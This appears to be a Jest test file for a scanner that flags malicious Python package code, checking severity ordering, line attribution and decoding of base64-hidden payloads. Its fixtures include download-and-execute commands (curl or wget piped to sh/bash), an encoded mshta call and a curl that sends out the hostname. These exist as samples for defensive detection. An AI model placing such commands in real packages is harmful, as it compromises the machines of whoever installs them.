// The analysis room's public contract: result shape, ordering, the suspicious verdict, where
// findings point, and that limits are reported rather than swallowed.

import { ANALYZER_VERSION, RULES, analyzeSdist, analyzeSource } from '../src/analysis/index.js';
import type { Severity } from '../src/types.js';

const RANK: Record<Severity, number> = { info: 0, low: 1, medium: 2, high: 3, critical: 4 };

describe('analysis API', () => {
  it('has a version for cache keys', () => {
    expect(ANALYZER_VERSION).toMatch(/^\d+\.\d+\.\d+$/);
  });

  it('sorts findings worst first and calls a package suspicious only for high or critical', () => {
    const src = [
      'import os, subprocess, urllib.request',
      "subprocess.check_output(['git', 'describe'])",
      "urllib.request.urlopen('https://example.org/x')",
      "os.system('curl -s http://203.0.113.7/x | sh')",
    ].join('\n');
    const r = analyzeSource(src, 'setup.py');
    const ranks = r.findings.map((f) => RANK[f.severity]);
    expect(ranks).toEqual([...ranks].sort((a, b) => b - a));
    expect(r.findings[0].severity).toBe('critical');
    expect(r.suspicious).toBe(true);

    const mild = analyzeSource("import subprocess, urllib.request\nsubprocess.check_output(['git', 'describe'])\nurllib.request.urlopen('https://example.org/x')\n", 'setup.py');
    expect(mild.findings.length).toBeGreaterThan(0);
    expect(mild.findings.every((f) => RANK[f.severity] <= RANK.medium)).toBe(true);
    expect(mild.suspicious).toBe(false);
  });

  it('reports every finding with a known rule, the given path, a line, words and evidence', () => {
    const r = analyzeSource("import os\n\nos.system('wget -O- http://198.51.100.23/x | bash')\n", 'tools/inspect_me.py');
    const ids = new Set(RULES.map((x) => x.id));
    expect(r.findings.length).toBeGreaterThan(0);
    for (const f of r.findings) {
      expect(ids.has(f.rule)).toBe(true);
      expect(f.path).toBe('tools/inspect_me.py');
      expect(f.line).toBe(3);
      expect(f.message).toMatch(/^[A-Z]/);
      expect(f.evidence.length).toBeGreaterThan(0);
    }
    expect(r.analyzed).toEqual(['tools/inspect_me.py']);
  });

  it('points findings in decoded code at the line that runs them', () => {
    const payload = Buffer.from("import os\nos.system('mshta http://198.51.100.23/a.hta')").toString('base64');
    const r = analyzeSource(`import base64\n\n\nexec(base64.b64decode('${payload}'))\n`, 'setup.py');
    const inner = r.findings.find((f) => f.rule === 'suspicious-command');
    expect(inner).toMatchObject({ path: 'setup.py', line: 4, severity: 'critical' });
    expect(inner!.message).toMatch(/^In code decoded at line 4 \(base64\): /);
  });

  it('reports limits instead of passing silently', () => {
    const r = analyzeSource(`x = ${'['.repeat(300)}${']'.repeat(300)}\n`, 'setup.py');
    expect(r.limits).toHaveLength(1);
    expect(r.limits[0]).toMatch(/^setup\.py:1: /);
  });

  it('analyzes an empty sdist to nothing', () => {
    expect(analyzeSdist(new Map())).toEqual({ findings: [], suspicious: false, analyzed: [], limits: [] });
  });

  it('is deterministic', () => {
    const files = new Map([['setup.py', "import os, socket\nos.system('curl http://203.0.113.7/?h=' + socket.gethostname())\n"]]);
    expect(analyzeSdist(files)).toEqual(analyzeSdist(files));
  });
});
